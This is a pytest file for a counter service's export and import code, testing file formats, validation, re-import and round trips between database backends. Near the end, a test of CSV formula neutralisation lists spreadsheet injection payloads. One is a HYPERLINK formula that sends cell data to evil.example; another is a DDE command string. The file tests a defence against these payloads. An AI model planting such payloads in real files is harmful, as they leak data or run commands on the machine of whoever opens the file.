"""Export and import: the format, validation, idempotence, overlaps, the round trip between
the backends, and the Admin download over the API."""

from __future__ import annotations

import csv
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import orjson
import pytest
from conftest import Harness

from tally.exports import CSV_HEADER_UNIQUE, export_csv, export_jsonl
from tally.imports import InvalidFile, import_file, validate
from tally.models import CounterChange, CounterRecord, Permission
from tally.stats import summarize
from tally.storage import Store, store_from_url

HOUR = int(time.time() // 3600)


async def opened(url: str, node: str = "test-node") -> Store:
    store = store_from_url(url, node=node)
    await store.open()
    return store


async def write(chunks: AsyncIterator[bytes], path: Path) -> Path:
    with path.open("wb") as f:
        async for chunk in chunks:
            f.write(chunk)
    return path


async def export_to(store: Store, path: Path) -> Path:
    return await write(export_jsonl(store, await store.list_workspaces()), path)


async def seed(store: Store) -> None:
    """Two workspaces (one open for V1 with allowed origins); counters with history, a
    private one, odd names, bounds and allowed origins, unique-visitor windows, an empty
    one."""
    demo = await store.create_workspace("demo", "Demo")
    other = await store.create_workspace("other", "Other")
    plan = [
        (demo, "hits", False, "", [(HOUR - 30 * 24, 5, 0), (HOUR - 1, 2, 1), (HOUR, 3, 0)]),
        (demo, "secret", True, 'quoted "text", commas', [(HOUR - 2, 1, 1)]),
        (demo, "ünïcödé 🎉 name", False, "", [(HOUR - 400 * 24, 7, 2)]),
        (other, "empty", False, "", []),
    ]
    for ws, name, private, description, hours in plan:
        c = await store.create_counter(ws.id, name, private=private, description=description)
        ups, downs = sum(h[1] for h in hours), sum(h[2] for h in hours)
        record = CounterRecord(
            c.name,
            description,
            private,
            ups,
            downs,
            c.created_at,
            c.updated_at + 1.25,
            tuple(hours),
        )
        assert await store.import_counters(ws.id, [record]) == ["changed"]
    await store.set_workspace_rules(
        demo.id, v1_open=True, origins=("https://demo.example", "https://*.demo.example")
    )
    hits = await store.read_counter("demo", "hits")
    secret = await store.read_counter("demo", "secret")
    assert hits is not None
    assert secret is not None
    await store.change_counter(
        hits.id, CounterChange(bounds=(-5, None), origins=("http://x.example:81",))
    )
    await store.change_counter(secret.id, CounterChange(bounds=(0, 2**62), origins=()))
    await store.change_counter(hits.id, CounterChange(unique_window=7 * 86400))
    await store.change_counter(secret.id, CounterChange(unique_window=3600))
    await store.change_counter(secret.id, CounterChange(unique_by_address=True))
    await store.set_page_counting(demo.id, page_views=True, honour_dnt=True)
    await store.set_workspace_timezone(demo.id, "Europe/Berlin")


async def snapshot(store: Store) -> dict[str, Any]:
    """Everything an export carries, plus the stats each counter's history gives."""
    out: dict[str, Any] = {}
    now = time.time()
    for ws in await store.list_workspaces():
        for c in await store.list_counters(ws.id):
            history = await store.read_history(c.id)
            out[f"{ws.slug}/{c.name}"] = {
                "fields": (c.description, c.private, c.up_count, c.down_count),
                "rules": (c.floor, c.ceiling, c.origins),
                "unique": c.unique_window,
                "unique_by_address": c.unique_by_address,
                "workspace": (
                    ws.name,
                    ws.created_at,
                    ws.v1_open,
                    ws.origins,
                    ws.page_views,
                    ws.honour_dnt,
                    ws.timezone,
                ),
                "times": (c.created_at, c.updated_at),
                "hours": sorted(history.buckets),
                "stats": summarize(history.buckets, now),
            }
    return out


def body_lines(path: Path) -> list[bytes]:
    """The file without its first line (which holds the export's time)."""
    return path.read_bytes().splitlines()[1:]


# the round trip ---------------------------------------------------------------------


@pytest.mark.postgres
async def test_round_trip_sqlite_postgres_sqlite(
    tmp_path: Path, sqlite_url: str, postgres_url: str
) -> None:
    """SQLite -> PostgreSQL -> SQLite gives identical counters, history and stats, and
    identical files."""
    first = await opened(sqlite_url)
    pg = await opened(postgres_url)
    last = await opened(f"sqlite:///{tmp_path / 'last.db'}")
    try:
        await seed(first)
        a = await export_to(first, tmp_path / "a.jsonl")
        await import_file(pg, a, validate(a))
        b = await export_to(pg, tmp_path / "b.jsonl")
        await import_file(last, b, validate(b))
        c = await export_to(last, tmp_path / "c.jsonl")
        assert body_lines(a) == body_lines(b) == body_lines(c)
        original = await snapshot(first)
        assert len(original) == 4
        assert original["demo/hits"]["rules"] == (-5, None, ("http://x.example:81",))
        assert original["demo/secret"]["rules"] == (0, 2**62, ())
        assert (original["demo/hits"]["unique"], original["demo/secret"]["unique"]) == (
            7 * 86400, 3600,
        )  # fmt: skip
        assert original["other/empty"]["unique"] == 0
        assert b'"unique":604800' in a.read_bytes()
        assert original["demo/secret"]["unique_by_address"] is True
        assert original["demo/hits"]["unique_by_address"] is False
        assert b'"unique":3600,"unique_by":"address"' in a.read_bytes()
        assert original["demo/hits"]["workspace"][2:] == (
            True, ("https://demo.example", "https://*.demo.example"), True, True, "Europe/Berlin",
        )  # fmt: skip
        assert original["other/empty"]["workspace"][4:] == (False, False, "")
        assert b'"honour_dnt":true,"timezone":"Europe/Berlin"}' in a.read_bytes()
        assert b'"honour_dnt":false,"timezone":null}' in a.read_bytes()  # the server's
        assert await snapshot(pg) == original
        assert await snapshot(last) == original
    finally:
        for store in (first, pg, last):
            await store.close()


# import's promises --------------------------------------------------------------------


async def test_import_twice_changes_nothing(store: Store, tmp_path: Path) -> None:
    """Importing a file again reports every counter unchanged and changes nothing."""
    await seed(store)
    path = await export_to(store, tmp_path / "x.jsonl")
    before = await snapshot(store)
    report = await import_file(store, path, validate(path))
    assert (report.created, report.changed, report.unchanged) == (0, 0, 4)
    assert report.workspaces_kept == ["demo", "other"]
    assert await snapshot(store) == before


async def test_file_wins_where_it_speaks(store: Store, tmp_path: Path) -> None:
    """A counter in the file gets the file's totals, settings and whole history (hours
    the file lacks go); a counter not in the file is left alone."""
    await seed(store)
    path = await export_to(store, tmp_path / "x.jsonl")
    expected = await snapshot(store)
    demo = await store.get_workspace("demo")
    assert demo is not None
    drifted = CounterRecord("hits", "changed", True, 1, 1, 1.0, 2.0, ((HOUR - 5, 9, 9),))
    extra = CounterRecord("not-in-file", "", False, 4, 0, 1.0, 2.0, ((HOUR, 4, 0),))
    await store.import_counters(demo.id, [drifted, extra])
    report = await import_file(store, path, validate(path))
    assert (report.created, report.changed, report.unchanged) == (0, 1, 3)
    after = await snapshot(store)
    assert after.pop("demo/not-in-file")["fields"] == ("", False, 4, 0)
    assert after == expected


async def test_csv_sets_totals_and_keeps_history(store: Store, tmp_path: Path) -> None:
    """A CSV import sets totals and settings; the hourly history stays as it was."""
    await seed(store)
    workspaces = await store.list_workspaces()
    path = await write(export_csv(store, workspaces), tmp_path / "x.csv")
    assert path.read_text().splitlines()[:2] == [
        "tally-export-csv,3",
        "workspace,name,description,private,up_count,down_count,created_at,updated_at,"
        "floor,ceiling,allowed_origins,unique,unique_by",
    ]
    text = path.read_text().replace("demo,hits,,false,10,1,", "demo,hits,,false,99,1,")
    path.write_text(text)
    before = await snapshot(store)
    report = await import_file(store, path, validate(path))
    assert (report.created, report.changed, report.unchanged) == (0, 1, 3)
    after = await snapshot(store)
    assert after["demo/hits"]["fields"] == ("", False, 99, 1)
    assert after["demo/hits"]["hours"] == before["demo/hits"]["hours"]
    assert after["demo/hits"]["rules"] == before["demo/hits"]["rules"]
    # the rules come from the file too
    assert after["demo/hits"]["unique"] == 7 * 86400
    # the rules and the unique window come from the file too
    text = path.read_text().replace(
        ",-5,,http://x.example:81,604800,address_agent\n", ",-7,3,,,address_agent\n"
    )
    path.write_text(text)
    report = await import_file(store, path, validate(path))
    assert (report.created, report.changed, report.unchanged) == (0, 1, 3)
    after = await snapshot(store)
    assert (after["demo/hits"]["rules"], after["demo/hits"]["unique"]) == ((-7, 3, ()), 0)
    text = path.read_text().replace(",-7,3,,,address_agent\n", ",-7,3,,172800,address_agent\n")
    path.write_text(text)
    report = await import_file(store, path, validate(path))
    assert (report.changed, report.unchanged) == (1, 3)
    assert (await snapshot(store))["demo/hits"]["unique"] == 2 * 86400
    again = await import_file(store, path, validate(path))
    assert (again.changed, again.unchanged) == (0, 4)


async def test_version_1_files_still_import(store: Store, tmp_path: Path) -> None:
    """A version 1 file (JSON lines or CSV) imports; it has no rules or workspace
    settings, so an existing counter's and workspace's are kept as they are."""
    await seed(store)
    before = await snapshot(store)
    lines = [HEAD, WS, counter_line(up_count=10, down_count=1, hours=...), END(1, 0)]
    record = orjson.loads(lines[2])["counter"]
    hits = before["demo/hits"]
    record.update(up_count=10, down_count=1, created_at=hits["times"][0],
                  updated_at=hits["times"][1], hours=[list(h) for h in hits["hours"]])  # fmt: skip
    lines[2] = orjson.dumps({"counter": record})
    lines[3] = END(1, len(hits["hours"]))
    path = tmp_path / "v1.jsonl"
    path.write_bytes(b"\n".join(lines) + b"\n")
    report = await import_file(store, path, validate(path))
    assert (report.changed, report.unchanged, report.workspaces_changed) == (0, 1, 0)
    assert await snapshot(store) == before
    csv_path = tmp_path / "v1.csv"
    csv_path.write_text(
        "tally-export-csv,1\n"
        "workspace,name,description,private,up_count,down_count,created_at,updated_at\n"
        f"demo,hits,,false,12,1,{hits['times'][0]!r},{hits['times'][1]!r}\n"
    )
    report = await import_file(store, csv_path, validate(csv_path))
    assert report.changed == 1
    after = await snapshot(store)
    assert after["demo/hits"]["fields"] == ("", False, 12, 1)
    assert after["demo/hits"]["rules"] == before["demo/hits"]["rules"]
    assert after["demo/hits"]["workspace"] == before["demo/hits"]["workspace"]


async def test_file_sets_rules_and_workspace_settings(store: Store, tmp_path: Path) -> None:
    """A version 2 file sets an existing workspace's V1 flag, allowed origins and time
    zone (null: the server's) and a counter's bounds and origins back to the file's; a
    second import changes nothing."""
    await seed(store)
    path = await export_to(store, tmp_path / "x.jsonl")
    expected = await snapshot(store)
    demo = await store.get_workspace("demo")
    hits = await store.read_counter("demo", "hits")
    assert demo is not None
    assert hits is not None
    other = await store.get_workspace("other")
    assert other is not None
    await store.set_workspace_rules(demo.id, v1_open=False, origins=())
    await store.set_workspace_timezone(demo.id, "Asia/Tokyo")
    await store.set_workspace_timezone(other.id, "America/New_York")  # the file: null
    await store.change_counter(
        hits.id, CounterChange(bounds=(None, 100), origins=(), unique_window=0)
    )
    report = await import_file(store, path, validate(path))
    assert (report.changed, report.unchanged, report.workspaces_changed) == (1, 3, 2)
    assert await snapshot(store) == expected
    again = await import_file(store, path, validate(path))
    assert (again.changed, again.unchanged, again.workspaces_changed) == (0, 4, 0)
    assert await snapshot(store) == expected


async def test_import_into_an_empty_database(store: Store, tmp_path: Path) -> None:
    """Workspaces and counters are created; the report says so."""
    source = await opened(f"sqlite:///{tmp_path / 'source.db'}")
    try:
        await seed(source)
        path = await export_to(source, tmp_path / "x.jsonl")
        expected = await snapshot(source)
    finally:
        await source.close()
    summary = validate(path)
    assert (summary.counters, summary.buckets) == (4, 5)
    report = await import_file(store, path, summary)
    assert report.workspaces_created == ["demo", "other"]
    assert (report.created, report.changed, report.unchanged) == (4, 0, 0)
    assert await snapshot(store) == expected


# validation --------------------------------------------------------------------------

HEAD = b'{"tally_export":1,"exported_at":"2026-01-01T00:00:00Z"}'
WS = b'{"workspace":{"slug":"demo","name":"Demo","created_at":1.0}}'
HEAD2 = b'{"tally_export":2,"exported_at":"2026-01-01T00:00:00Z"}'
WS2 = (
    b'{"workspace":{"slug":"demo","name":"Demo","created_at":1.0,"v1_open":false,'
    b'"allowed_origins":[]}}'
)
RULES: dict[str, Any] = {"floor": None, "ceiling": None, "allowed_origins": []}
CSV2 = (
    b"workspace,name,description,private,up_count,down_count,created_at,updated_at,floor,"
    b"ceiling,allowed_origins"
)


def counter_line(**changes: Any) -> bytes:
    record: dict[str, Any] = {
        "workspace": "demo",
        "name": "hits",
        "description": "",
        "private": False,
        "up_count": 3,
        "down_count": 1,
        "created_at": 1.0,
        "updated_at": 2.0,
        "hours": [[10, 2, 1], [11, 1, 0]],
    }
    record.update(changes)
    return orjson.dumps({"counter": {k: v for k, v in record.items() if v is not ...}})


def END(counters: int = 1, buckets: int = 2) -> bytes:
    return orjson.dumps({"end": {"workspaces": 1, "counters": counters, "buckets": buckets}})


@pytest.mark.parametrize(
    ("lines", "message"),
    [
        ([b"hello"], "line 1: not a Tally export"),
        ([b'{"tally_export":3}'], "format version 3: this Tally reads 1 and 2"),
        ([b'{"tally_export":"2"}'], "format version 2: this Tally reads"),
        ([HEAD2, WS, counter_line(), END()], "a workspace has exactly the fields"),
        ([HEAD2, WS2, counter_line(), END()], "a counter has exactly the fields"),
        ([HEAD, WS2, counter_line(), END()], "a workspace has exactly the fields"),
        ([HEAD, WS, counter_line(**RULES), END()], "a counter has exactly the fields"),
        ([HEAD2, WS2, counter_line(**{**RULES, "floor": "1"}), END()], "floor must be null"),
        ([HEAD2, WS2, counter_line(**{**RULES, "floor": True}), END()], "floor must be null"),
        ([HEAD2, WS2, counter_line(**{**RULES, "ceiling": 2**62 + 1}), END()], "ceiling must be"),
        ([HEAD2, WS2, counter_line(**{**RULES, "floor": 2, "ceiling": 1}), END()],
         "the floor (2) is above the ceiling (1)"),
        ([HEAD2, WS2, counter_line(**{**RULES, "allowed_origins": ["ftp://x"]}), END()],
         "allowed_origins: 'ftp://x' is not an origin"),
        ([HEAD2, WS2, counter_line(**{**RULES, "allowed_origins": "https://a.b"}), END()],
         "allowed_origins must be a list"),
        ([HEAD2, WS2.replace(b"false", b'"no"'), counter_line(**RULES), END()],
         "v1_open must be true or false"),
        ([HEAD2, WS2.replace(b"[]", b'[],"page_views":true'), counter_line(**RULES), END()],
         "a workspace has exactly the fields"),
        ([HEAD2, WS2.replace(b"[]", b'[],"page_views":1,"honour_dnt":false'),
          counter_line(**RULES), END()],
         "page_views must be true or false"),
        ([HEAD2, WS2.replace(b"[]", b'["a b"]'), counter_line(**RULES), END()],
         "one origin per item"),
        ([HEAD2, WS2.replace(b"[]", b'[],"timezone":"Mars/Olympus_Mons"'),
          counter_line(**RULES), END()],
         "timezone: 'Mars/Olympus_Mons' is no time zone"),
        ([HEAD2, WS2.replace(b"[]", b'[],"timezone":1'), counter_line(**RULES), END()],
         "timezone must be an IANA zone name, or null"),
        ([HEAD2, WS2.replace(b"[]", b'[],"timezone":"UTC","page_views":true'),
          counter_line(**RULES), END()],
         "a workspace has exactly the fields"),
        ([HEAD, WS.replace(b"1.0", b'1.0,"timezone":"UTC"'), counter_line(), END()],
         "a workspace has exactly the fields"),
        ([b"tally-export-csv,2", CSV2, b"demo,hits,,false,3,0,1,2,x,,"],
         "floor must be empty or a whole number"),
        ([b"tally-export-csv,2", CSV2, b"demo,hits,,false,3,0,1,2,,,nope"],
         "'nope' is not an origin"),
        ([HEAD2, WS2, counter_line(**{**RULES, "unique": 60}), END()],
         "the unique window must be from 3600 s"),
        ([HEAD2, WS2, counter_line(**{**RULES, "unique": 0}), END()],
         "the unique window must be from 3600 s"),
        ([HEAD2, WS2, counter_line(**{**RULES, "unique": 31 * 86400}), END()],
         "the unique window must be from 3600 s"),
        ([HEAD2, WS2, counter_line(**{**RULES, "unique": "24h"}), END()],
         "unique must be a window in seconds"),
        ([HEAD2, WS2, counter_line(**{**RULES, "unique": 3600.5}), END()],
         "unique must be a window in seconds"),
        ([HEAD, WS, counter_line(unique=3600), END()], "a counter has exactly the fields"),
        ([HEAD2, WS2, counter_line(**{**RULES, "unique": 3600, "unique_by": "cookie"}), END()],
         "unique_by must be one of address_agent, address"),
        ([HEAD2, WS2, counter_line(**{**RULES, "unique": 3600, "unique_by": True}), END()],
         "unique_by must be one of address_agent, address"),
        ([b"tally-export-csv,2", CSV2 + b",unique,unique_by",
          b"demo,hits,,false,3,0,1,2,,,,3600,ip"],
         "unique_by must be one of address_agent, address"),
        ([b"tally-export-csv,2", CSV2 + b",unique", b"demo,hits,,false,3,0,1,2,,,,1d"],
         "unique must be empty (off) or a window in seconds"),
        ([b"tally-export-csv,2", CSV2 + b",unique", b"demo,hits,,false,3,0,1,2,,,,59"],
         "the unique window must be from 3600 s"),
        ([HEAD, WS, b"{nope", END(0, 0)], "line 3: not JSON"),
        ([HEAD, WS, counter_line(up_count=-1), END()], "up_count must be a whole number"),
        ([HEAD, WS, counter_line(up_count=True), END()], "up_count must be a whole number"),
        ([HEAD, WS, counter_line(private="yes"), END()], "private must be true or false"),
        ([HEAD, WS, counter_line(name=""), END()], "the counter name is empty"),
        ([HEAD, WS, counter_line(name="a/b"), END()], "must not contain '/'"),
        ([HEAD, WS, counter_line(name=" hits"), END()], "must not begin or end with a space"),
        ([HEAD, WS, counter_line(name=" "), END()], "must not begin or end with a space"),
        ([HEAD, WS, counter_line(created_at="x"), END()], "created_at must be unix seconds"),
        ([HEAD, WS, counter_line(hours=[[11, 1, 0], [10, 1, 0]]), END()], "increasing order"),
        ([HEAD, WS, counter_line(hours=[[10, 1]]), END()], "[hour, up, down]"),
        ([HEAD, WS, counter_line(extra=1), END()], "exactly the fields"),
        ([HEAD, WS, counter_line(hours=...), END()], "exactly the fields"),
        ([HEAD, WS, counter_line(workspace="nope"), END()], "workspace 'nope' is not above"),
        ([HEAD, WS, counter_line(workspace="No Slug"), END()], "workspace must be a slug"),
        ([HEAD, WS, counter_line(), counter_line(), END(2, 4)], "demo/hits appears twice"),
        ([HEAD, WS, counter_line()], "the end line is missing"),
        ([HEAD, WS, counter_line(), END(1, 3)], "the end line says"),
        ([HEAD, WS, counter_line(), END(), WS], "nothing may follow the end line"),
        ([HEAD, WS, b'{"token":{}}', END(0, 0)], "unknown line kind 'token'"),
        ([b"tally-export-csv,1", b"workspace,name"], "the header row must be"),
        (
            [b"tally-export-csv,1", b"workspace,name,description,private,up_count,down_count,"
             b"created_at,updated_at", b"demo,hits,,false,-3,0,1,2"],
            "up_count must be a whole number",
        ),
    ],
)  # fmt: skip
async def test_bad_files_are_refused_whole(
    store: Store, tmp_path: Path, lines: list[bytes], message: str
) -> None:
    """A bad file is refused with the line and the reason; nothing is written."""
    path = tmp_path / "bad.jsonl"
    path.write_bytes(b"\n".join(lines) + b"\n")
    with pytest.raises(InvalidFile) as info:
        validate(path)
    assert message in str(info.value)
    assert await store.list_workspaces() == []


async def test_every_bad_line_is_reported(tmp_path: Path) -> None:
    """Validation goes on past a bad line: each one is reported with its number."""
    path = tmp_path / "bad.jsonl"
    lines = [HEAD, WS, counter_line(up_count=-1), counter_line(name="b", private=1), END(2, 4)]
    path.write_bytes(b"\n".join(lines))
    with pytest.raises(InvalidFile) as info:
        validate(path)
    assert [e.split(":")[0] for e in info.value.errors] == ["line 3", "line 4"]


def test_not_utf8_is_refused(tmp_path: Path) -> None:
    """Bytes that are not UTF-8 make an invalid file, not a crash."""
    path = tmp_path / "bad.csv"
    path.write_bytes(b"tally-export-csv,1\n\xff\xfe\n")
    with pytest.raises(InvalidFile, match=r"not UTF-8|header row"):
        validate(path)


# the download ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("caller", "status"),
    [
        ("anon", 401),
        ("read", 403),
        ("write", 403),
        ("admin", 200),
        ("other_admin", 403),
    ],
)
async def test_download_needs_admin(harness: Harness, caller: str, status: int) -> None:
    """Only an Admin token of the workspace downloads its export."""
    ws = await harness.workspace("ws")
    other = await harness.workspace("other")
    await harness.counter(ws, "c")
    tokens = {
        "read": await harness.token(ws, Permission.READ),
        "write": await harness.token(ws, Permission.WRITE),
        "admin": await harness.token(ws, Permission.ADMIN),
        "other_admin": await harness.token(other, Permission.ADMIN),
    }
    r = await harness.get("/export/ws", tokens.get(caller))
    assert r.status_code == status, r.text
    if status != 200:
        assert r.json()["code"] == str(status)
        return
    assert r.headers["content-type"] == "application/x-ndjson"
    assert "x-request-id" in r.headers
    assert 'filename="tally-ws.jsonl"' in r.headers["content-disposition"]
    lines = [orjson.loads(line) for line in r.content.splitlines()]
    assert lines[0]["tally_export"] == 2
    assert lines[1]["workspace"]["slug"] == "ws"
    assert lines[2]["counter"]["name"] == "c"
    assert lines[-1] == {"end": {"workspaces": 1, "counters": 1, "buckets": 0}}


async def test_download_is_a_valid_file_of_many_pages(harness: Harness, tmp_path: Path) -> None:
    """A workspace larger than a page downloads whole, and imports elsewhere."""
    ws = await harness.workspace("ws")
    token = await harness.token(ws, Permission.ADMIN)
    records = [
        CounterRecord(f"c{i}", "", False, i, 0, 1.0, 2.0, ((HOUR, i, 0),)) for i in range(2500)
    ]
    await harness.store.import_counters(ws.id, records)
    r = await harness.get("/export/ws", token)
    assert r.status_code == 200
    path = tmp_path / "download.jsonl"
    path.write_bytes(r.content)
    summary = validate(path)
    assert (summary.counters, summary.buckets) == (2500, 2500)
    target = await opened(f"sqlite:///{tmp_path / 'copy.db'}")
    try:
        report = await import_file(target, path, summary)
        assert report.created == 2500
    finally:
        await target.close()


@pytest.mark.parametrize(
    ("path", "status"), [("/export/No%20Slug", 404), ("/export/", 404), ("/export/nope", 403)]
)
async def test_download_bad_paths(harness: Harness, path: str, status: int) -> None:
    """A path that is no slug is 404; an Admin token of another workspace is 403."""
    ws = await harness.workspace("ws")
    token = await harness.token(ws, Permission.ADMIN)
    r = await harness.get(path, token)
    assert r.status_code == status
    assert r.json()["code"] == str(status)


async def test_download_refuses_other_methods(harness: Harness) -> None:
    """POST is 405."""
    r = await harness.client.post("/export/ws")
    assert r.status_code == 405


async def test_version_2_files_without_unique_keep_the_window(store: Store, tmp_path: Path) -> None:
    """A version 2 file written before `unique` was carried (JSON lines or CSV without
    the column) still imports and leaves each counter's window as it is; `null` or an
    empty cell turns it off."""
    await seed(store)
    path = await export_to(store, tmp_path / "x.jsonl")
    before = await snapshot(store)
    older = tmp_path / "older.jsonl"
    lines = []
    for raw in path.read_bytes().splitlines():
        obj = orjson.loads(raw)
        if "counter" in obj:
            del obj["counter"]["unique"]
        lines.append(orjson.dumps(obj))
    older.write_bytes(b"\n".join(lines) + b"\n")
    hits = await store.read_counter("demo", "hits")
    assert hits is not None
    await store.change_counter(hits.id, CounterChange(unique_window=2 * 86400))
    report = await import_file(store, older, validate(older))
    assert (report.changed, report.unchanged) == (0, 4)
    after = await snapshot(store)
    assert after["demo/hits"]["unique"] == 2 * 86400
    after["demo/hits"]["unique"] = before["demo/hits"]["unique"]
    assert after == before

    csv_path = await write(export_csv(store, await store.list_workspaces()), tmp_path / "x.csv")
    rows = csv_path.read_text().splitlines()
    assert rows[1].endswith(",unique,unique_by")
    assert any(row.endswith(",172800,address_agent") for row in rows[2:])
    assert any(row.endswith(",3600,address") for row in rows[2:])
    cut = [rows[0]] + [row.rsplit(",", 2)[0] for row in rows[1:]]
    csv_path.write_text("\n".join(cut) + "\n")
    report = await import_file(store, csv_path, validate(csv_path))
    assert (report.changed, report.unchanged) == (0, 4)
    assert (await snapshot(store))["demo/hits"]["unique"] == 2 * 86400
    # written before `unique_by` existed: its windows count by address and User-Agent
    cut = [rows[0]] + [row.rsplit(",", 1)[0] for row in rows[1:]]
    csv_path.write_text("\n".join(cut) + "\n")
    report = await import_file(store, csv_path, validate(csv_path))
    assert (report.changed, report.unchanged) == (1, 3)
    secret = (await snapshot(store))["demo/secret"]
    assert (secret["unique"], secret["unique_by_address"]) == (3600, False)

    off = tmp_path / "off.jsonl"
    off.write_bytes(path.read_bytes().replace(b'"unique":604800', b'"unique":null'))
    report = await import_file(store, off, validate(off))
    assert (report.changed, report.unchanged) == (2, 2)  # and secret by address again
    assert (await snapshot(store))["demo/hits"]["unique"] == 0


async def test_version_2_files_without_a_timezone_keep_the_workspaces(
    store: Store, tmp_path: Path
) -> None:
    """A version 2 file written before `timezone` was carried still imports and leaves
    each workspace's time zone as it is; one with `timezone` but without `page_views` and
    `honour_dnt` sets the zone and keeps the page counting."""
    await seed(store)
    path = await export_to(store, tmp_path / "x.jsonl")
    demo = await store.get_workspace("demo")
    assert demo is not None
    await store.set_workspace_timezone(demo.id, "Asia/Tokyo")
    before = await snapshot(store)

    def without(path: Path, *keys: str) -> Path:
        lines = []
        for raw in path.read_bytes().splitlines():
            obj = orjson.loads(raw)
            for key in keys:
                obj.get("workspace", {}).pop(key, None)
            lines.append(orjson.dumps(obj))
        cut = tmp_path / f"without-{'-'.join(keys)}.jsonl"
        cut.write_bytes(b"\n".join(lines) + b"\n")
        return cut

    older = without(path, "timezone")
    report = await import_file(store, older, validate(older))
    assert (report.unchanged, report.workspaces_changed) == (4, 0)
    assert await snapshot(store) == before  # Tokyo kept

    await store.set_page_counting(demo.id, page_views=False, honour_dnt=False)
    zone_only = without(path, "page_views", "honour_dnt")
    report = await import_file(store, zone_only, validate(zone_only))
    assert report.workspaces_changed == 1
    after = await store.get_workspace("demo")
    assert after is not None
    assert (after.timezone, after.page_views, after.honour_dnt) == ("Europe/Berlin", False, False)


FORMULAS = [
    '=HYPERLINK("http:\\\\evil.example?"&A1,"click")',
    "+1+cmd|' \\C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "'quoted",
    "''=twice",
    "plain",
]


async def test_csv_neutralises_formulas_and_round_trips_names(store: Store, tmp_path: Path) -> None:
    """A CSV text cell that starts like a formula (= + - @ tab CR) is written with a
    leading ' (so is one starting with '); an import takes exactly that ' off, so every
    name and description comes back as it was."""
    ws = await store.create_workspace("demo", "Demo")
    texts = {name: name for name in FORMULAS}
    texts |= {"tab": "\t=1+1", "cr": "\r=1+1 and a\r\nline"}  # descriptions only
    for name, description in texts.items():
        await store.create_counter(ws.id, name, description=description)
    path = await write(export_csv(store, [ws]), tmp_path / "x.csv")
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    written = {row[1]: row[2] for row in rows[2:]}
    guarded = {n: "'" + d if d[0] in "=+-@\t\r'" else d for n, d in texts.items()}
    assert written == {"'" + n if n[0] in "=+-@'" else n: d for n, d in guarded.items()}
    for counter in await store.list_counters(ws.id):
        await store.delete_counter(counter.id)
    report = await import_file(store, path, validate(path))
    assert report.created == len(texts)
    assert {c.name: c.description for c in await store.list_counters(ws.id)} == texts


async def test_a_version_2_csv_is_read_as_written(store: Store, tmp_path: Path) -> None:
    """Version 2 files were written without the guard: a leading ' there is the name's."""
    path = tmp_path / "v2.csv"
    path.write_text(
        "tally-export-csv,2\n" + ",".join(CSV_HEADER_UNIQUE) + "\ndemo,'q,,false,1,0,1,2,,,,\n"
    )
    await import_file(store, path, validate(path))
    assert await store.read_counter("demo", "'q") is not None
